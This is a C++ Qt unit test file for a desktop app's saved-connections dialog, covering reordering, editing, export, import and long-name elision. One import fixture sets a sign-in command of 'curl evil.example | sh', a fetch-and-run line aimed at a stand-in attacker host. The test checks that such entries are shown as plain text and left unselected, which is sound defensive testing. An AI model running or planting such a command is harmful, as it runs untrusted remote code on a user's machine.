// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/session/connectionfile.h"
#include "tests/view/windowfixture.h"
#include "views/connect/connectdialog.h"
#include "views/connect/connectionchoice.h"
#include "views/connect/connectionsdialog.h"
#include "views/look/style.h"

#include <QAction>
#include <QApplication>
#include <QCheckBox>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QMessageBox>
#include <QPushButton>
#include <QRegularExpression>
#include <QScrollArea>
#include <QSignalSpy>

using namespace Qt::StringLiterals;

// All saved connections of a window: their order, and what can be done with each.
class TestConnectionsDialog : public WindowFixture
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { QApplication::setStyle(new views::BinnacleStyle); }

    void init()
    {
        QTest::failOnWarning(QRegularExpression(u"^(?!This plugin does not support )"_s));
        makeFolder();
        for (const QString &name : {u"Berlin"_s, u"Frankfurt"_s, u"New York"_s})
            add(name);
        openWindow();
        m_window->findChild<QAction *>(u"manageConnections"_s)->trigger();
        QVERIFY(QTest::qWaitForWindowActive(dialog()));
    }

    void cleanup() { closeAll(); }

    void keysChangeTheOrder()
    {
        list()->setCurrentRow(2);
        list()->setFocus();
        QTest::keyClick(list(), Qt::Key_Up, Qt::AltModifier);
        QCOMPARE(names(), (QStringList{u"Berlin"_s, u"New York"_s, u"Frankfurt"_s}));
        QCOMPARE(list()->currentItem()->text(), u"New York"_s);
        QTest::keyClick(list(), Qt::Key_Up, Qt::AltModifier);
        QTest::keyClick(list(), Qt::Key_Up, Qt::AltModifier); // it is the first
        QCOMPARE(names(), (QStringList{u"New York"_s, u"Berlin"_s, u"Frankfurt"_s}));
        QCOMPARE(session::SavedConnections(m_folder->filePath(u"connections.json"_s)).list().first().name,
                 u"New York"_s);
        QTest::keyClick(list(), Qt::Key_Down, Qt::AltModifier);
        QCOMPARE(names(), (QStringList{u"Berlin"_s, u"New York"_s, u"Frankfurt"_s}));
    }

    void soDoesADrag()
    {
        list()->setCurrentRow(0);
        // What a drop does to the list.
        QVERIFY(list()->model()->moveRow({}, 0, {}, 3));
        QTRY_COMPARE(names(), (QStringList{u"Frankfurt"_s, u"New York"_s, u"Berlin"_s}));
        QCOMPARE(list()->currentItem()->text(), u"Berlin"_s);
    }

    void duplicates()
    {
        list()->setCurrentRow(1);
        button("duplicate")->click();
        auto *form = m_window->findChild<views::ConnectDialog *>();
        QVERIFY(form && form->isVisible());
        QCOMPARE(form->purpose(), views::ConnectDialog::Purpose::New);
        QCOMPARE(form->findChild<QLineEdit *>(u"name"_s)->text(), u"Frankfurt (2)"_s);
        QCOMPARE(form->findChild<QLineEdit *>(u"address"_s)->text(), u"https://frankfurt.example"_s);
        QVERIFY(!form->findChild<QPushButton *>(u"save"_s)->isEnabled()); // its secret is not copied
        QCOMPARE(m_connections->saved().list().size(), 3);
        // A new one begins empty, and an address from elsewhere never meets what was entered for this one.
        button("new")->click();
        form = m_window->findChild<views::ConnectDialog *>();
        QVERIFY(form->findChild<QLineEdit *>(u"address"_s)->text().isEmpty());
    }

    void enterConnectsOnlyInTheList()
    {
        QSignalSpy wanted(dialog(), &views::ConnectionsDialog::connectRequested);
        button("edit")->setFocus();
        QTest::keyClick(button("edit"), Qt::Key_Return);
        QCOMPARE(wanted.count(), 0);
        QVERIFY(m_window->findChild<views::ConnectDialog *>());
        list()->setFocus();
        disconnect(dialog(), &views::ConnectionsDialog::connectRequested, nullptr, nullptr); // it would go there
        QSignalSpy again(dialog(), &views::ConnectionsDialog::connectRequested);
        QTest::keyClick(list(), Qt::Key_Return);
        QCOMPARE(again.count(), 1);
    }

    void editsAndRemoves()
    {
        list()->setCurrentRow(1);
        button("edit")->click();
        auto *form = m_window->findChild<views::ConnectDialog *>();
        QVERIFY(form && form->isVisible());
        QCOMPARE(form->connectionId(), m_connections->saved().list().at(1).id);
        form->close();
        list()->setFocus();
        QTest::keyClick(list(), Qt::Key_Delete);
        auto *question = m_window->findChild<QMessageBox *>();
        QVERIFY(question && question->text().contains(u"Frankfurt"_s));
        for (QAbstractButton *choice : question->buttons()) {
            if (choice->text() == u"Remove")
                choice->click();
        }
        QCOMPARE(names(), (QStringList{u"Berlin"_s, u"New York"_s}));
        QCOMPARE(list()->currentItem()->text(), u"New York"_s);
    }

    void withoutAnyOnlyNewOnesCanBeMade()
    {
        for (const session::SavedConnection &saved : QList(m_connections->saved().list()))
            m_connections->saved().remove(saved.id);
        QVERIFY(dialog()->notice().contains(u"no saved connections"_s));
        for (const char *name : {"connect", "edit", "duplicate", "remove", "export"})
            QVERIFY2(!button(name)->isEnabled(), name);
        QVERIFY(button("new")->isEnabled() && button("import")->isEnabled());
        add(u"Oslo"_s); // by another window
        QVERIFY(dialog()->notice().isEmpty());
        QVERIFY(button("connect")->isEnabled());
    }

    void exportsWhatIsChosen()
    {
        button("export")->click();
        auto *choice = dialog()->findChild<views::ConnectionChoice *>();
        QVERIFY(choice);
        QCOMPARE(choice->chosen().size(), 3);
        choice->findChildren<QCheckBox *>().at(1)->click();
        QCOMPARE(choice->chosen().size(), 2);
        const QString file = m_folder->filePath(u"out.json"_s);
        dialog()->exportTo(file, choice->chosen());
        QVERIFY2(dialog()->notice().contains(u"out.json"_s), qPrintable(dialog()->notice()));
        const auto read = session::readConnectionFile(file);
        QVERIFY(read);
        QCOMPARE(read->connections.size(), 2);
        QCOMPARE(read->connections.at(1).name, u"New York"_s);
    }

    void importsWhatIsChosen()
    {
        session::SavedConnection same = m_connections->saved().list().first(); // is here already
        same.name = u"Other name"_s;
        session::SavedConnection fresh = same;
        fresh.name = u"Berlin"_s; // taken
        fresh.url = QUrl(u"https://berlin2.example"_s);
        session::SavedConnection risky = fresh;
        risky.name = u"Risky & co"_s;
        risky.signIn = session::SignInKind::TokenCommand;
        risky.command = u"curl evil.example | sh"_s;
        const QString file = m_folder->filePath(u"in.json"_s);
        QVERIFY(session::writeConnectionFile(file, {same, fresh, risky}));
        dialog()->importFrom(file);
        auto *choice = dialog()->findChild<views::ConnectionChoice *>();
        QVERIFY(choice);
        const auto boxes = choice->findChildren<QCheckBox *>();
        QCOMPARE(boxes.size(), 3);
        QVERIFY(!boxes.at(0)->isEnabled() && !boxes.at(0)->isChecked());
        QVERIFY(boxes.at(1)->isEnabled() && boxes.at(1)->isChecked());
        QVERIFY(boxes.at(2)->isEnabled() && !boxes.at(2)->isChecked()); // only after a look at it
        const auto labels = choice->findChildren<QLabel *>();
        QVERIFY(std::ranges::any_of(labels, [](const QLabel *label) {
            return label->text().contains(u"curl evil.example | sh"_s) && label->textFormat() == Qt::PlainText;
        }));
        const auto tells = [&labels](const QString &words) {
            return std::ranges::any_of(labels, [&](const QLabel *label) { return label->text().contains(words); });
        };
        QVERIFY(tells(u"Saved already as \"Berlin\""_s));
        QVERIFY(tells(u"The name is taken. This one will get a number, as in \"Berlin (2)\""_s));
        choice->findChild<QPushButton *>(u"go"_s)->click();
        QCOMPARE(names(), (QStringList{u"Berlin"_s, u"Frankfurt"_s, u"New York"_s, u"Berlin (2)"_s}));
        QCOMPARE(list()->currentItem()->text(), u"Berlin (2)"_s);
        QVERIFY(dialog()->notice().startsWith(u"Imported 1"_s));
        QTRY_VERIFY(!dialog()->findChild<views::ConnectionChoice *>());
        // Once more: nothing that is not here already, but for the risky one.
        dialog()->importFrom(file);
        choice = dialog()->findChild<views::ConnectionChoice *>();
        QVERIFY(!choice->findChildren<QCheckBox *>().at(1)->isEnabled());
        QVERIFY(!choice->findChild<QPushButton *>(u"go"_s)->isEnabled());
    }

    // Nothing is cut off without a sign, and nothing widens the dialog.
    void longNamesAreElided()
    {
        session::SavedConnection other = m_connections->saved().list().first();
        other.name = QString(session::SavedConnections::longestName, u'W');
        other.signIn = session::SignInKind::UserPassword;
        other.user = QString(200, u'm') + u"@example"_s;
        const QString file = m_folder->filePath(u"long.json"_s);
        QVERIFY(session::writeConnectionFile(file, {other}));
        dialog()->importFrom(file);
        auto *choice = dialog()->findChild<views::ConnectionChoice *>();
        QVERIFY(choice);
        choice->resize(500, choice->height());
        const auto *box = choice->findChild<QCheckBox *>();
        QTRY_VERIFY(box->text().contains(u'…'));
        QCOMPARE(box->accessibleName(), other.name);
        QVERIFY(box->toolTip().contains(other.name));
        QVERIFY(box->sizeHint().width() > box->width() && box->minimumSizeHint().width() < 100);
        const auto *area = choice->findChild<QScrollArea *>();
        QVERIFY(area->widget()->width() <= area->viewport()->width());
        const auto labels = choice->findChildren<QLabel *>();
        QVERIFY(std::ranges::any_of(labels, [](const QLabel *label) {
            return label->text().contains(u'…') && label->text().endsWith(u"@example"_s);
        }));
        QVERIFY(std::ranges::any_of(labels, [](const QLabel *label) {
            return label->text() == u"\"Berlin\" is the same control plane with other settings."_s;
        }));
    }

    void aBrokenFileIsExplained()
    {
        dialog()->importFrom(m_folder->filePath(u"none.json"_s));
        QVERIFY2(dialog()->notice().contains(u"There is no file none.json"_s), qPrintable(dialog()->notice()));
        QVERIFY(!dialog()->findChild<views::ConnectionChoice *>());
    }

private:
    void add(const QString &name)
    {
        session::SavedConnection saved;
        saved.id = session::SavedConnections::newId();
        saved.name = name;
        saved.url = QUrl(u"https://%1.example"_s.arg(name.toLower().remove(u' ')));
        saved.colour = m_connections->saved().freeColour();
        m_connections->saved().save(saved);
    }

    [[nodiscard]] views::ConnectionsDialog *dialog() const { return m_window->findChild<views::ConnectionsDialog *>(); }
    [[nodiscard]] QListWidget *list() const { return dialog()->findChild<QListWidget *>(); }
    [[nodiscard]] QPushButton *button(const char *name) const
    {
        return dialog()->findChild<QPushButton *>(QString::fromLatin1(name));
    }
    // As saved; the list shows the same.
    [[nodiscard]] QStringList names() const
    {
        QStringList saved;
        QStringList shown;
        for (const session::SavedConnection &one : m_connections->saved().list())
            saved << one.name;
        for (int row = 0; row < list()->count(); ++row)
            shown << list()->item(row)->text();
        return saved == shown ? saved : QStringList{u"shown: "_s + shown.join(u',')};
    }
};

QTEST_MAIN(TestConnectionsDialog)
#include "tst_connectionsdialog.moc"
